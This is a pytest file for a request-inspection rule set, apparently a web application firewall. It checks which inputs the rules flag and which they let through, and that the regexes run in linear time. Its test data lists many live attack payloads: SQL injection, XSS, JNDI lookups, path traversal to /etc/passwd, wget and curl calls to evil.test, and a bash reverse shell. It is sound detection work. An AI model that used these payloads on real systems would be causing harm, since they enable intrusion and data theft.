"""The rules: what they find, what they leave alone, and that their time is linear."""

from __future__ import annotations

import re
import re._parser as parser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from plugins.request_inspection.rules import Hit, Place, Ruleset, bundled, decoded, texts, total

RULES = Ruleset(bundled())
ANYWHERE = st.sampled_from([Place.URL, Place.NAME, Place.HEADER, Place.AGENT, Place.BODY])


def score(value, place=Place.URL, *, prose=False):
    return total(RULES.look(value, place, prose=prose))


ATTACKS = [
    ("sqli", "' OR '1'='1"),
    ("sqli", "' or 1=1--"),
    ("sqli", '" or ""="'),
    ("sqli", "admin'--"),
    ("sqli", "admin' #"),
    ("sqli", "1 or 1=1"),
    ("sqli", "1) or (1=1"),
    ("sqli", "' OR/**/1=1"),
    ("sqli", "x' AND 1=CONVERT(int,@@version)--"),
    ("sqli", "1 UNION SELECT username, password FROM users"),
    ("sqli", "-1 union all select null,null,null"),
    ("sqli", "1 UNION/**/SELECT/**/@@version"),
    ("sqli", "%27%20OR%201%3D1"),
    ("sqli", "%2527%2520or%25201%253D1"),
    ("sqli", "'+or+1=1"),
    ("sqli", "1; DROP TABLE users"),
    ("sqli", "1;insert into users values(1)"),
    ("sqli", "1 and sleep(5)--"),
    ("sqli", "'; waitfor delay '0:0:5'--"),
    ("sqli", "1'; exec xp_cmdshell('dir')--"),
    ("sqli", "1 into outfile '/tmp/x'"),
    ("xss", "<script>alert(1)</script>"),
    ("xss", "<ScRiPt >alert(1)</sCrIpT>"),
    ("xss", "%3Cscript%3Ealert(1)%3C/script%3E"),
    ("xss", "&lt;script&gt;alert(1)&lt;/script&gt;"),
    ("xss", "<img src=x onerror=alert(1)>"),
    ("xss", "<svg/onload=alert(1)>"),
    ("xss", '"><img src=x>'),
    ("xss", "javascript:alert(document.cookie)"),
    ("xss", "<a href='javascript:alert(1)'>x</a>"),
    ("xss", "<iframe src=//evil.test></iframe><b onclick=x()>"),
    ("injection", "${jndi:ldap://evil.test/a}"),
    ("injection", "${${lower:j}ndi:ldap://evil.test/a}"),
    ("injection", "{{''.__class__.__mro__}}"),
    ("injection", "%{(#_memberAccess=@ognl.OgnlContext@DEFAULT)}"),
    ("traversal", "../../../../etc/passwd"),
    ("traversal", "..\\..\\..\\windows\\win.ini"),
    ("traversal", "%2e%2e%2f%2e%2e%2fsecret"),
    ("traversal", "..%252f..%252fsecret"),
    ("traversal", "/etc/shadow"),
    ("traversal", "php://filter/convert.base64-encode/resource=index"),
    ("traversal", "/.env"),
    ("traversal", "/.git/config"),
    ("command", "; cat /etc/hostname"),
    ("command", "127.0.0.1;id"),
    ("command", "x | wget http://evil.test/x"),
    ("command", "$(curl evil.test)"),
    ("command", "`whoami`"),
    ("command", "x && bash -i >& /dev/tcp/1.2.3.4/1 0>&1"),
    ("command", "() { :; }; /bin/bash -c id"),
    ("bytes", "image.php\0.png"),
    ("bytes", "image.php%00.png"),
    ("bytes", "x%0d%0aSet-Cookie:a=b"),
]


@pytest.mark.parametrize(("category", "value"), ATTACKS)
def test_attacks_in_urls_and_forms_reach_the_threshold(category, value):
    hits = RULES.look(value, Place.URL)
    assert total(hits) >= 5, hits
    assert category in {hit.category for hit in hits}


@pytest.mark.parametrize(
    "value",
    [
        pytest.param("' OR '1'='1", id="a tautology"),
        pytest.param("1 UNION SELECT username, password FROM users", id="a union"),
        pytest.param("javascript:alert(1)", id="a scheme"),
        pytest.param("${jndi:ldap://evil.test/a}", id="a lookup"),
        pytest.param("8.8.8.8; cat /etc/passwd", id="a command on a file that nobody asks for"),
        pytest.param("x\0y", id="a null byte"),
        pytest.param("admin'--", id="a comment after a quote"),
    ],
)
def test_what_leaves_no_doubt_is_found_in_json_too(value):
    assert score(value, Place.BODY, prose=True) >= 5


@pytest.mark.parametrize(
    ("name", "found"),
    [("user[$ne]", True), ("$where", True), ("__proto__", True), ("a.__proto__.b", True), ("price[gte]", False)],
)
def test_names(name, found):
    assert bool(RULES.look(name, Place.NAME)) is found


@pytest.mark.parametrize(
    ("agent", "found"),
    [
        ("sqlmap/1.7.2#stable (https://sqlmap.org)", True),
        ("Mozilla/5.0 (compatible; Nikto/2.5.0)", True),
        ("Mozilla/5.0 (X11; Linux x86_64; rv:120.0) Gecko/20100101 Firefox/120.0", False),
        ("curl/8.4.0", False),
        ("python-requests/2.31 (and more; like Gecko)", False),
    ],
)
def test_agents(agent, found):
    assert bool(RULES.look(agent, Place.AGENT)) is found


# -- what honest people send -------------------------------------------------------------------------------------------

IN_URLS = [
    "O'Brien",
    "Conan O'Brien and D'Angelo",
    "d'Arc or nothing",
    "rock & roll",
    "salt and pepper",
    "to be or not to be",
    "5 or 6",
    "1 and 2",
    "select a union or drop it",
    "the student union",
    "x > 5 and y < 10",
    "price:[10 TO 20] AND brand:(sony OR lg)",
    'title:"war and peace"',
    "name eq 'Milk' and price lt 2.55",
    "C:\\Users\\ada\\report.docx",
    "https://example.com/a/b?c=d&e=f#g",
    "https%3A%2F%2Fexample.com%2Fcallback%3Fcode%3D1",
    "2026-11-21T10:00:00+01:00",
    "a@b.example",
    "eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiIxIn0.c2lnbmF0dXJl",
    "dGhpcyBpcyBhIGxvbmcgYmFzZTY0Kys/PT0=",
    '{"filter":{"status":["open","closed"]}}',
    "{'a': 1}",
    "$filter",
    "50% off",
    "100%",
    "AT&T",
    "#42",
    "(555) 123-4567",
    "C#",
    "it's -- well -- complicated",
    "v1..v2",
    "main...feature",
    "..",
    "file.tar.gz",
    "/users/17/orders",
    "/.well-known/openid-configuration",
    "Müller-Lüdenscheidt",
    "日本語",
    "<3",
    "a <b> c",
    "x=1;y=2",
    "script writer",
    "description: a subscription",
    "id; name",
    "cat; dog",
]  # fmt: skip

IN_BODIES = [
    *IN_URLS,
    "Please select an item from the list, insert it into the box and update the label; drop me a line.",
    "DROP TABLE is what little Bobby Tables did; his mother's comic is famous.",
    "In SQL, `SELECT * FROM users WHERE name = 'x'` reads rows; never concatenate.",
    "Use `UNION` or `JOIN`; the union of both selects is sorted.",
    "UPDATE orders SET status = 'paid' WHERE id = 5;",
    "SELECT a, b FROM t WHERE a = 1 AND b = 2 ORDER BY 1",
    "Run `curl -X POST https://api.example.com/orders -d @order.json` and look at the answer.",
    "curl https://example.com/install.sh | sh",
    "```bash\ncat README.md | grep -i install\nls -la\n```",
    "$ cd /etc/nginx && ls",
    "Wait with time.sleep(5); then retry",
    '<p>Hello <b>world</b>, see <a href="https://example.com/?a=1&amp;b=2">this</a></p>',
    'In HTML, a `<script>` tag loads code; `<img src="x.png" alt="">` an image.',
    '<iframe src="https://www.youtube.com/embed/1"></iframe>',
    "if (a && b) { return c || d; } // done",
    "for (let i = 0; i < n; i++) { x[i] = `${a}-${b}`; }",
    "Hello {{ user.name }}, your order ${order.id} is on its way.",
    "See ../images/logo.png and ../../docs/README.md",
    'Traceback (most recent call last):\n  File "/usr/lib/python3/x.py", line 1, in <module>',
    "He said 'yes' and she said 'no'; they left.",
    "'90s or '80s music",
    "It's 5 o'clock and I'm fine -- really",
    "John's or Mary's = undecided",
    "rm is a command; ls is another; be careful.",
    "| a | b |\n|---|---|\n| 1 | 2 |",
    "- [ ] todo\n- [x] done\n> quote & more",
    "a=b; c=d; Path=/; HttpOnly",
    "-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----",
    '{"query": "{ user(id: 1) { name } }"}',
    "1) first; 2) second or third (3 = best)",
    "SGVsbG8gd29ybGQ7IGlkIGlzIDU=",
]  # fmt: skip


@pytest.mark.parametrize("value", IN_URLS)
def test_honest_parameters_stay_below_the_threshold(value):
    assert score(value) < 5, RULES.look(value, Place.URL)


@pytest.mark.parametrize("value", IN_BODIES)
def test_honest_texts_stay_below_the_threshold(value):
    assert score(value, Place.BODY, prose=True) < 5, RULES.look(value, Place.BODY, prose=True)


# -- time --------------------------------------------------------------------------------------------------------------


def repeats(tree, inside=False):
    """Unbounded or long repetitions that stand inside another one."""
    for name, argument in tree:
        if name in (parser.MAX_REPEAT, parser.MIN_REPEAT):
            least, most, inner = argument
            long = most is parser.MAXREPEAT or most > 1
            if inside and long:
                yield (least, most)
            yield from repeats(inner, inside or long)
        elif name is parser.SUBPATTERN:
            yield from repeats(argument[3], inside)
        elif name is parser.BRANCH:
            for branch in argument[1]:
                yield from repeats(branch, inside)


@pytest.mark.parametrize("rule", bundled(), ids=lambda rule: rule.id)
def test_no_rule_repeats_within_a_repetition_or_without_bound(rule):
    tree = parser.parse(rule.pattern)
    assert list(repeats(tree)) == []
    assert not re.search(r"(?<!\\)[*+](?![^\[]*\])", re.sub(r"\\.", "", rule.pattern))


def test_rules_have_names_of_their_own():
    names = [rule.id for rule in bundled()]
    assert len(set(names)) == len(names)


@given(st.text(max_size=200), ANYWHERE, st.booleans())
def test_any_text_is_looked_at(value, place, prose):
    assert all(isinstance(hit, Hit) for hit in RULES.look(value, place, prose=prose))


@given(st.sampled_from(ATTACKS), st.text("abc ", max_size=10))
def test_nothing_without_oddness_is_what_a_rule_would_find(attack, padding):
    """The quick look in front must not hide an attack."""
    value = f"{padding} {attack[1]}" if attack[0] == "sqli" else attack[1]
    assert RULES.look(value, Place.URL)


# -- parts -------------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "shapes"),
    [
        pytest.param("Plain", ("plain",), id="nothing hidden"),
        pytest.param("%41", ("%41", "a"), id="encoded"),
        pytest.param("%2541", ("%2541", "%41", "a"), id="encoded twice"),
        pytest.param("a/**/b", ("a b",), id="a comment"),
        pytest.param("a \n\t b", ("a b",), id="space"),
        pytest.param("&lt;", ("&lt;", "<"), id="entities"),
    ],
)
def test_decoded(value, shapes):
    assert decoded(value) == shapes


def test_of_a_category_the_highest_counts():
    assert total([Hit("a", "sqli", 5), Hit("b", "sqli", 4), Hit("c", "xss", 2)]) == 7


def test_texts():
    found = sorted(texts({"a": ["b", {"c": "d"}], "e": 1}))
    assert found == [(Place.BODY, "b"), (Place.BODY, "d"), (Place.NAME, "a"), (Place.NAME, "c"), (Place.NAME, "e")]
